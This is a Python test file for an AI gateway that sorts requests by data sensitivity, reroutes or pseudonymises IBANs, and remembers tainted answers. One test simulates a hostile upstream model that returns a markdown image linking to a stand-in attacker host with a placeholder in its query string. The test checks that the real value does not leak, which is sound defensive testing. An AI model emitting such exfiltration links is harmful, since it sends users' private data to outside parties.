# SPDX-FileCopyrightText: 2026 KI-Ampel contributors
# SPDX-License-Identifier: EUPL-1.2
"""Outcomes through the whole gateway: what the upstream sees, what the client reads, and what is remembered."""

import asyncio
import re
from collections.abc import AsyncIterator
from typing import Any
from unittest.mock import patch

import aiohttp
import orjson
import pytest
import pytest_asyncio

from gateway import taint
from gateway.database import DatabaseUnavailableError
from tests.unit.gateway.harness import Answer, Platform, new_database, running, user_header
from tests.unit.gateway.simulation import DONE, Script, answers, chunk, event, sends, stream_of
from tests.unit.gateway.town import document, policy

pytestmark = pytest.mark.asyncio(loop_scope="module")

IBAN = "DE89 3704 0044 0532 0130 00"
OTHER = "DE02 1203 0000 0000 2020 51"
NOTICE = (
    "*Hinweis: Diese Anfrage gilt als »personenbezogene Daten« und durfte nicht an »Rot · Chat« gehen. Geantwortet hat "
    "das Modell »Grün · Chat« in Zone Grün.*\n\n"
)
SECRET = (
    "Die Zahlung wird seit dem Frühjahr in drei Raten geleistet, weil der Betrieb im Winter geschlossen war.\n"
    "Die letzte Rate ist im Herbst fällig, danach ist der Vorgang abgeschlossen und kann in die Ablage gegeben werden."
)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def gates(postgres_url: str) -> AsyncIterator[Platform]:
    """Red reroutes to green, yellow's internal model is not used; the other zone is as it was."""
    zones: dict[str, Any] = document()["zones"]
    zones["red"] = {**zones["red"], "on_excess": "reroute", "reroute_to": "gruen-chat"}
    async with new_database(postgres_url) as url, running(url, policy(zones=zones)) as platform:
        await platform.make_user("fisch", "gold")
        yield platform


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def masks(postgres_url: str) -> AsyncIterator[Platform]:
    """Red is sent placeholders."""
    zones: dict[str, Any] = document()["zones"]
    zones["red"] = {**zones["red"], "on_excess": "pseudonymise"}
    async with new_database(postgres_url) as url, running(url, policy(zones=zones)) as platform:
        await platform.make_user("fisch", "gold")
        yield platform


def text_of(answer: Answer) -> str:
    """What the answer says, streamed or whole."""
    assert answer.status == 200, answer.raw
    if answer.headers["Content-Type"].startswith("text/event-stream"):
        deltas = [choice["delta"] for said in answer.events for choice in said.get("choices", ())]
        return "".join(delta.get("content") or "" for delta in deltas)
    return str(answer.json["choices"][0]["message"]["content"])


def label_of(answer: Answer) -> dict[str, str]:
    labels = (
        [said["ampel"] for said in answer.events if "ampel" in said]
        if b"data:" in answer.raw
        else [answer.json["ampel"]]
    )
    (label,) = labels
    assert isinstance(label, dict)
    return label


def echoes(cut: int) -> Script:
    """An upstream that says what it was told last, in pieces of this many characters."""

    async def script(request: aiohttp.web.Request) -> aiohttp.web.StreamResponse:
        body = await request.json()
        said = body["messages"][-1]["content"]
        if not body.get("stream"):
            return await answers(said)(request)
        pieces = [event(chunk(delta={"content": said[at : at + cut]})) for at in range(0, len(said), cut)]
        return await sends([*pieces, event(chunk(delta={}, finish_reason="stop")), DONE])(request)

    return script


@pytest.mark.parametrize("stream", [False, True])
async def test_a_rerouted_answer_says_so_in_its_first_line(gates: Platform, stream: bool) -> None:
    gates.clean()
    answer = await gates.ask("rot-chat", f"Konto {IBAN}", stream=stream)
    assert text_of(answer).startswith(f"{NOTICE}Guten Tag")
    assert text_of(answer).count("Hinweis") == 1
    (received,) = gates.simulation.received
    assert received.body["model"] == "gruen-chat"
    assert label_of(answer)["outcome"] == answer.headers["X-Ampel-Outcome"] == "reroute"
    assert (answer.headers["X-Ampel-Zone"], answer.headers["X-Ampel-Model"]) == ("green", "gruen-chat")
    row = await gates.audited(answer)
    assert (row["model"], row["code"]) == ("gruen-chat", "ok")


async def test_what_was_not_rerouted_has_no_notice(gates: Platform) -> None:
    gates.clean()
    answer = await gates.ask("rot-chat", "Hallo", stream=True)
    assert "Hinweis" not in text_of(answer)
    assert label_of(answer)["outcome"] == "allow"


async def test_people_see_the_zone_above_the_answer_and_programs_do_not(gates: Platform) -> None:
    gates.clean()
    person = await gates.ask("rot-chat", f"Konto {IBAN}", stream=True, key=gates.webui, headers=user_header("fisch"))
    status, first, *_ = person.events
    assert status["event"]["data"]["description"] == (
        "Zone Grün · eingestuft als personenbezogene Daten · statt Zone Rot"
    )
    assert first["choices"][0]["delta"]["content"] == NOTICE
    assert sum("event" in said for said in person.events) == 1
    program = await gates.ask("rot-chat", f"Konto {IBAN}", stream=True)
    assert all(said["choices"] is not None and "event" not in said for said in program.events)
    whole = await gates.ask("rot-chat", f"Konto {IBAN}", key=gates.webui, headers=user_header("fisch"))
    assert "event" not in whole.json


@pytest.mark.parametrize("cut", [1, 3, 1000])
@pytest.mark.parametrize("stream", [False, True])
async def test_the_upstream_sees_placeholders_and_the_client_values(masks: Platform, stream: bool, cut: int) -> None:
    masks.clean()
    masks.simulation.script = echoes(cut)
    asked = f"Buche von {IBAN} auf {OTHER}, nicht auf {IBAN}."
    answer = await masks.ask("rot-chat", asked, stream=stream)
    assert text_of(answer) == asked
    (received,) = masks.simulation.received
    assert b"3704" not in received.raw
    assert b"1203" not in received.raw
    sent = received.body["messages"][-1]["content"]
    one, two, again = re.findall(r"\[IBAN-\w+\]", sent)
    assert one == again != two
    assert answer.headers["X-Ampel-Outcome"] == label_of(answer)["outcome"] == "pseudonymise"
    assert answer.headers["X-Ampel-Zone"] == "red"


async def test_nothing_of_a_pseudonym_is_stored(masks: Platform) -> None:
    masks.clean()
    before = await masks.connection.fetchval("SELECT count(*) FROM ampel.taint")
    answer = await masks.ask("rot-chat", f"Konto {IBAN}", headers={"X-OpenWebUI-Chat-Id": "masked"})
    await masks.audited(answer)
    assert await masks.connection.fetchval("SELECT count(*) FROM ampel.taint") == before


async def test_an_upstream_cannot_fetch_a_value_by_an_address(masks: Platform) -> None:
    masks.clean()

    async def thief(request: aiohttp.web.Request) -> aiohttp.web.StreamResponse:
        placeholder = re.findall(r"\[IBAN-\w+\]", (await request.text()))[-1]
        return await answers(f"![x](https://boese.example/?q={placeholder}) Gut.")(request)

    masks.simulation.script = thief
    answer = await masks.ask("rot-chat", f"Konto {IBAN}")
    assert "3704" not in text_of(answer)


def asked_again(answer: str, question: str = "Kürze das.") -> dict[str, Any]:
    messages = [{"role": "user", "content": "Wie steht es?"}, {"role": "assistant", "content": answer}]
    return {"messages": [*messages, {"role": "user", "content": question}]}


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("way", ["pasted", "history", "system"])
async def test_an_answer_keeps_its_class_elsewhere(masks: Platform, stream: bool, way: str) -> None:
    masks.clean()
    told = f"{SECRET} {way} {stream}".replace("Rate ", f"Rate ({way}, {stream}) ")
    masks.simulation.script = sends([event(chunk(delta={"content": told})), DONE]) if stream else answers(told)
    assert (await masks.ask("gruen-chat", f"Konto {IBAN}", stream=stream)).status == 200
    masks.clean()
    more: dict[str, Any] = {
        "pasted": {"text": f"Bitte kürzen:\n{told}"},
        "history": asked_again(told),
        "system": {"messages": [{"role": "system", "content": told}, {"role": "user", "content": "Weiter"}]},
    }[way]
    refused = await masks.ask("rot-chat", **more)
    assert (refused.status, refused.error["code"]) == (403, "data_class")
    assert masks.simulation.received == []
    assert (await masks.ask("gelb-chat", **more)).headers["X-Ampel-Data-Class"] == "personal"


async def test_a_chat_keeps_its_class(masks: Platform) -> None:
    masks.clean()
    here, there = {"X-OpenWebUI-Chat-Id": "here"}, {"X-OpenWebUI-Chat-Id": "there"}
    assert (await masks.ask("gruen-chat", f"Konto {IBAN}", headers=here)).status == 200
    assert (await masks.ask("rot-chat", "Hallo", headers=here)).status == 403
    assert (await masks.ask("rot-chat", "Hallo", headers=there)).status == 200


async def test_a_refused_request_leaves_nothing(masks: Platform) -> None:
    """One can mend it and send it again in the same chat."""
    masks.clean()
    here = {"X-OpenWebUI-Chat-Id": "mended", "X-Data-Class": "confidential"}
    assert (await masks.ask("rot-chat", "Hallo", headers=here)).status == 403
    assert (await masks.ask("rot-chat", "Hallo", headers={**here, "X-Data-Class": "public"})).status == 200


async def test_a_broken_off_answer_is_remembered(masks: Platform) -> None:
    masks.clean()
    told = SECRET.replace("Rate", "Teilzahlung")
    masks.simulation.script = sends([event(chunk(delta={"content": told}))])
    assert "error" in (await masks.ask("gruen-chat", f"Konto {IBAN}", stream=True)).events[-1]
    assert (await masks.ask("rot-chat", told)).status == 403


async def test_what_a_client_has_read_before_it_hung_up_is_remembered(masks: Platform) -> None:
    masks.clean()
    told = SECRET.replace("Rate", "Summe")
    gate = asyncio.Semaphore(1)
    masks.simulation.script = sends([event(chunk(delta={"content": told})), DONE], gate=gate)
    body = {"model": "gruen-chat", "messages": [{"role": "user", "content": f"Konto {IBAN}"}], "stream": True}
    async with masks.session.post(
        f"{masks.url}/v1/chat/completions",
        data=orjson.dumps(body),
        headers={"Authorization": f"Bearer {masks.key}"},
    ) as response:
        await response.content.readuntil(b"\n\n")
    await masks.audited(response.headers["X-Request-Id"])
    masks.clean()
    for _ in range(100):
        answer = await masks.ask("rot-chat", told)
        if answer.status == 403:
            return
        await asyncio.sleep(0.02)
    raise AssertionError("it was forgotten")


async def test_the_answer_is_remembered_before_its_end_is_sent(masks: Platform) -> None:
    """No next request can be faster than the memory."""
    masks.clean()
    order: list[str] = []
    real = taint.remember_answer

    async def slow(*args: Any, **parameters: Any) -> None:
        await asyncio.sleep(0.2)
        await real(*args, **parameters)
        order.append("remembered")

    with patch("gateway.relay_call.remember_answer", slow):
        await masks.ask("gruen-chat", f"Konto {IBAN}", stream=True)
    order.append("answered")
    assert order == ["remembered", "answered"]


async def test_a_database_that_fails_then_is_asked_again(masks: Platform) -> None:
    masks.clean()
    tries = 0
    real = taint.remember_answer

    async def failing(*args: Any, **parameters: Any) -> None:
        nonlocal tries
        tries += 1
        if tries == 1:
            raise DatabaseUnavailableError("away")
        await real(*args, **parameters)

    with patch("gateway.relay_call.remember_answer", failing):
        assert (await masks.ask("gruen-chat", f"Konto {IBAN}", stream=True)).status == 200
        for _ in range(500):
            if tries == 2:
                break
            await asyncio.sleep(0.01)
    assert tries == 2


async def test_public_answers_ask_the_database_for_nothing_more(masks: Platform) -> None:
    masks.clean()
    with patch("gateway.relay_call.remember_answer", side_effect=AssertionError("not for public")):
        answer = await masks.ask("rot-chat", "Hallo", stream=True)
    assert (await masks.audited(answer))["code"] == "ok"


async def test_chunks_without_anything_to_change_pass_byte_for_byte(masks: Platform) -> None:
    masks.clean()
    sent = stream_of(["Guten", "Tag"], usage=None)
    masks.simulation.script = sends(sent)
    answer = await masks.ask("gruen-chat", f"Konto {IBAN}", stream=True)
    assert answer.raw.endswith(b"".join(sent[1:]))


LONG = "Der Ausschuss berät über den Haushalt der nächsten Jahre. " * 400


def summaries(fail_at: int = 0) -> Script:
    """An upstream that answers every call, but for one that it fails."""
    calls = 0

    async def script(request: aiohttp.web.Request) -> aiohttp.web.StreamResponse:
        nonlocal calls
        calls += 1
        if calls == fail_at:
            return aiohttp.web.Response(status=500)
        body = await request.json()
        return await answers("Fertig." if body.get("stream") else f"Kurz {calls}.")(request)

    return script


@pytest.mark.parametrize("stream", [False, True])
async def test_a_long_text_is_read_in_parts_visibly(masks: Platform, stream: bool) -> None:
    masks.clean()
    masks.simulation.script = summaries()
    answer = await masks.ask("rot-chat", f"{LONG}\n\nWas wird beraten?", stream=stream)
    text = text_of(answer)
    count = len(masks.simulation.received) - 1
    assert count > 1
    assert text.startswith("*Der Text ist länger als das Modell auf einmal lesen kann.")
    assert "Die Antwort beruht auf Zusammenfassungen" in text
    assert (f"{count} …" in text) is stream
    assert text.endswith("Fertig. " if stream else f"Kurz {count + 1}.")
    assert label_of(answer)["model"] == "rot-chat"
    assert {received.body["model"] for received in masks.simulation.received} == {"rot-chat"}
    tickets = {received.headers["X-Ampel-Ticket"] for received in masks.simulation.received}
    assert len(tickets) == count + 1, "a ticket opens one call"
    row = await masks.audited(answer)
    assert row["tokens_out"] >= 3 * (count + 1), "all calls are paid"


async def test_a_part_that_fails_after_the_stream_began_ends_it_with_the_error(masks: Platform) -> None:
    masks.clean()
    masks.simulation.script = summaries(fail_at=2)
    answer = await masks.ask("rot-chat", f"{LONG}\n\nWas wird beraten?", stream=True)
    assert answer.status == 200
    *said, last = answer.events
    assert said
    assert last["error"]["code"] == "upstream_down"
    assert len(masks.simulation.received) == 2
    row = await masks.audited(answer)
    assert row["code"] == "upstream_down"
    assert 0 < row["micro_eur"] < 2 * len(LONG), "the first part is paid, the others were not read"


async def test_a_part_that_fails_has_a_status_if_nothing_was_said(masks: Platform) -> None:
    masks.clean()
    masks.simulation.script = summaries(fail_at=2)
    answer = await masks.ask("rot-chat", f"{LONG}\n\nWas wird beraten?")
    assert (answer.status, answer.error["code"]) == (502, "upstream_down")


async def test_a_large_picture_arrives_whole(masks: Platform) -> None:
    """More than a megabyte goes on piece by piece, and says before how much that is."""
    masks.clean()
    picture = {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{'A' * 3_000_000}"}}
    answer = await masks.ask("gruen-bild", messages=[{"role": "user", "content": [picture]}])
    assert answer.status == 200
    (received,) = masks.simulation.received
    assert received.body["messages"][0]["content"] == [picture]
    assert received.headers["Content-Length"] == str(len(received.raw))
    assert received.headers["Content-Type"] == "application/json"
